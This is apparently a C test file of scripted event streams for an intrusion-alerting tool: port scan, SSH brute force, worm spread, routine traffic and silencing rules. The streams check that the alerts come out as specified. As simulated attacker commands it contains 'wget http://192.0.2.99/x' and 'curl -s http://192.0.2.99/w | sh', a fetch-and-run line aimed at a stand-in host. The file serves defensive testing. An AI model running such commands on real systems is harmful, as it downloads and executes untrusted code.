/* SPDX-License-Identifier: BSD-2-Clause */
/* The scripted streams: what table.md says of each is what must come out. */
#include "play.h"

#include <stdio.h>
#include <string.h>

#define UDP 17
#define TCP 6
#define SCANNER "198.51.100.7"
#define ROBOT "198.51.100.66"
#define CONTROL "192.0.2.99"

static void end_of_day(struct play *p)
{
	alert_tick(p->alert, p->now_ns);
}

/* One source knocks at each port of a guest, 100 a second; 22 is open. */
static void scan(struct play *p)
{
	for (uint32_t port = 0; port < 65536; port++) {
		if (port == 22)
			play_open_incident(p, "web1", SCANNER);
		play_inbound(p, "web1", SCANNER, (uint16_t)port, port == 22);
		play_wait(p, 10 * NS_PER_MS);
	}
	play_wait(p, 30 * MINUTE);
	play_quiet_incident(p, "web1", SCANNER);
	play_wait(p, DAY);
	end_of_day(p);
}

/* 100,000 logins in 14 hours, one every half a second; a rule sees every 120th; the last one succeeds. */
static void brute(struct play *p)
{
	play_open_incident(p, "web1", ROBOT);
	for (uint32_t i = 0; i < 100000; i++) {
		play_inbound(p, "web1", ROBOT, 22, true);
		if (i % 120 == 60)
			play_rule(p, "web1", ROBOT, 2, 2001219);
		play_wait(p, SECOND / 2);
	}
	play_login(p, "web1", ROBOT, "root");
	play_wait(p, 20 * SECOND);
	play_command(p, "web1", "uname -a");
	play_command(p, "web1", "uname -a"); /* a second layer heard it, too */
	play_command(p, "web1", "wget http://192.0.2.99/x");
	play_outbound(p, "web1", "203.0.113.53", UDP, 53);
	play_outbound(p, "web1", CONTROL, TCP, 80);
	play_wait(p, MINUTE);
	play_outbound(p, "web1", CONTROL, TCP, 6667);
	play_wait(p, 30 * MINUTE);
	play_quiet_incident(p, "web1", ROBOT);
	play_wait(p, 9 * HOUR);
	end_of_day(p);
}

struct worm_guest {
	const char *name, *from, *next;
	uint64_t incident;
};

static void infect(struct play *p, struct worm_guest *g)
{
	play_open_incident(p, g->name, g->from);
	g->incident = p->incident;
	play_inbound(p, g->name, g->from, 22, true);
	play_wait(p, 5 * SECOND);
	play_login(p, g->name, g->from, "admin");
	play_command(p, g->name, "curl -s http://192.0.2.99/w | sh");
	play_wait(p, 2 * SECOND);
	if (g->next != NULL)
		play_lateral(p, g->name, g->next, 22);
	play_wait(p, 3 * SECOND);
}

/* One guest is broken into, and the worm goes on to two others; all three spread outwards. */
static void worm(struct play *p)
{
	struct worm_guest guests[] = {{"web1", ROBOT, "10.99.0.11", 0},
				      {"db1", "10.99.0.10", "10.99.0.12", 0},
				      {"mail1", "10.99.0.11", NULL, 0}};
	char to[32];
	for (size_t i = 0; i < 3; i++)
		infect(p, &guests[i]);
	for (uint32_t n = 0; n < 10000; n++) {
		struct worm_guest *g = &guests[n % 3];
		p->incident = g->incident;
		snprintf(to, sizeof(to), "192.0.2.%u", n / 3 % 250);
		play_outbound(p, g->name, to, TCP, 22);
		if (n == 300 || n == 301 || n == 302)
			play_limit(p, g->name);
		play_wait(p, 100 * NS_PER_MS);
	}
	play_wait(p, 30 * MINUTE);
	for (size_t i = 0; i < 3; i++) {
		p->incident = guests[i].incident;
		play_quiet_incident(p, guests[i].name, guests[i].from);
	}
	play_wait(p, DAY);
	end_of_day(p);
}

/* A guest's own business, and the house's, for seven days. */
static void week(struct play *p)
{
	for (uint32_t hour = 0; hour < 7 * 24; hour++) {
		for (uint32_t i = 0; i < 20; i++)
			play_outbound(p, "web1", "203.0.113.53", UDP, 53);
		play_outbound(p, "web1", "192.0.2.123", UDP, 123);
		play_lateral(p, "web1", "10.99.0.9", 514);
		if (hour % 24 == 3) {
			play_inbound(p, "web1", "198.51.100.25", 113, false);
			play_outbound(p, "web1", "198.51.100.25", TCP, 113);
			play_outbound(p, "prove", "192.0.2.1", TCP, 25);
			play_health(p, "recorder", "started");
		}
		play_wait(p, HOUR);
	}
	end_of_day(p);
}

/* New sources, each at one port, one a minute for two hours. */
static void sources(struct play *p)
{
	char from[32];
	for (uint32_t i = 0; i < 120; i++) {
		snprintf(from, sizeof(from), "198.51.100.%u", i + 1);
		play_inbound(p, "web1", from, 23, false);
		play_wait(p, MINUTE);
	}
}

/* What must not wake anybody, and then what must. */
static void original(struct play *p)
{
	play_open_incident(p, "web1", "");
	play_outbound(p, "web1", "203.0.113.53", UDP, 53);
	play_outbound(p, "web1", "203.0.113.53", TCP, 53);
	play_inbound(p, "web1", SCANNER, 113, false);
	play_outbound(p, "web1", SCANNER, TCP, 113);
	play_wait(p, 10 * MINUTE);
	play_outbound(p, "web1", CONTROL, TCP, 6667);
	play_wait(p, 1 * SECOND);
	play_outbound(p, "web1", CONTROL, TCP, 6667);
	play_quiet_incident(p, "web1", "");
	/* Break-ins until the pager's budget of three is used up; an escape goes through all the same. */
	for (uint32_t i = 0; i < 4; i++) {
		play_wait(p, 2 * HOUR);
		play_open_incident(p, "web1", ROBOT);
		play_outbound(p, "web1", CONTROL, TCP, 6667);
		if (i == 3)
			play_escape(p, "web1");
		play_wait(p, 30 * MINUTE);
		play_quiet_incident(p, "web1", ROBOT);
	}
}

static void original_conf(struct conf_alerts *c)
{
	c->to[1].throttle = (struct conf_throttle){0, 0, 0, 3};
	text_copy(c->digest, sizeof(c->digest), "");
}

/* Three in the morning: only what is never throttled may wake anybody. */
static void night(struct play *p)
{
	play_wait(p, 19 * HOUR); /* 03:00 */
	play_open_incident(p, "web1", ROBOT);
	play_inbound(p, "web1", ROBOT, 22, true);
	play_login(p, "web1", ROBOT, "root");
	play_wait(p, HOUR);
	play_login(p, "web1", ROBOT, "root");
	play_wait(p, HOUR);
	play_escape(p, "web1");
	play_wait(p, 2 * HOUR + MINUTE);
	play_login(p, "web1", ROBOT, "root");
	play_quiet_incident(p, "web1", ROBOT);
}

static void night_conf(struct conf_alerts *c)
{
	text_copy(c->to[1].hours, sizeof(c->to[1].hours), "07:00-23:00");
	text_copy(c->digest, sizeof(c->digest), "");
}

/* `skep down`, which silences the guests, and `skep up`; then a silence that is none of the house's. */
static void down(struct play *p)
{
	play_health(p, "super", "stopped");
	play_wait(p, 5 * SECOND);
	play_silence(p, "web1");
	play_escape(p, "web1");
	play_wait(p, HOUR);
	play_health(p, "super", "started");
	play_health(p, "wall", "started");
	play_wait(p, MINUTE);
	play_silence(p, "web1");
}

/* Rules of the operator: a partner's network, a rule that cries wolf, a day of tests. */
static void quiet(struct play *p)
{
	play_inbound(p, "web1", "192.0.2.10", 22, true);
	play_rule(p, "web1", SCANNER, 1, 2001219);
	play_rule(p, "web1", SCANNER, 1, 2001220);
	play_limit(p, "db1");
	play_escape(p, "db1"); /* no rule holds for these */
	play_wait(p, DAY);
	play_limit(p, "db1"); /* the rule is over */
	play_wait(p, HOUR);
	end_of_day(p);
}

static void quiet_conf(struct conf_alerts *c)
{
	c->n_quiet = 3;
	c->quiet[0].n_as = 1;
	text_copy(c->quiet[0].as[0], CONF_NUMBER, "64500");
	c->quiet[1].n_sids = 1;
	text_copy(c->quiet[1].sids[0], CONF_NUMBER, "2001219");
	c->quiet[2].n_guests = 1;
	text_copy(c->quiet[2].guests[0], CONF_NAME, "db1");
	text_copy(c->quiet[2].until, sizeof(c->quiet[2].until), "2026-11-02");
}

/* The pager's owner wants no logins of the partner's network, and nothing about port 80; whoever reads mail does. */
static void spared(struct play *p)
{
	play_open_incident(p, "web1", "192.0.2.10");
	play_login(p, "web1", "192.0.2.10", "root");
	play_outbound(p, "web1", CONTROL, TCP, 80);
	play_wait(p, SECOND);
	play_outbound(p, "web1", CONTROL, TCP, 6667); /* his first */
	play_open_incident(p, "db1", ROBOT);
	play_login(p, "db1", ROBOT, "root");
	play_quiet_incident(p, "db1", ROBOT);
}

static void spared_conf(struct conf_alerts *c)
{
	c->n_quiet = 2;
	c->quiet[1].n_ports = c->quiet[1].n_to = 1;
	c->quiet[1].ports[0] = (struct conf_ports){80, 80};
	text_copy(c->quiet[1].to[0], CONF_NAME, "pager");
	c->quiet[0].n_classes = c->quiet[0].n_sources = c->quiet[0].n_to = 1;
	text_copy(c->quiet[0].classes[0], CONF_NAME, "login");
	text_copy(c->quiet[0].to[0], CONF_NAME, "pager");
	c->quiet[0].sources[0] = (struct prefix){addr_from_v4((const uint8_t[]){192, 0, 2, 0}), 24};
	text_copy(c->digest, sizeof(c->digest), "");
}

const struct stream play_streams[] = {
	{"scan", NULL, scan},
	{"brute", NULL, brute},
	{"worm", NULL, worm},
	{"week", NULL, week},
	{"sources", NULL, sources},
	{"original", original_conf, original},
	{"night", night_conf, night},
	{"quiet", quiet_conf, quiet},
	{"spared", spared_conf, spared},
	{"down", night_conf, down},
	{NULL, NULL, NULL},
};

const struct stream *play_stream(const char *name)
{
	for (const struct stream *s = play_streams; s->name != NULL; s++)
		if (strcmp(s->name, name) == 0)
			return s;
	return NULL;
}
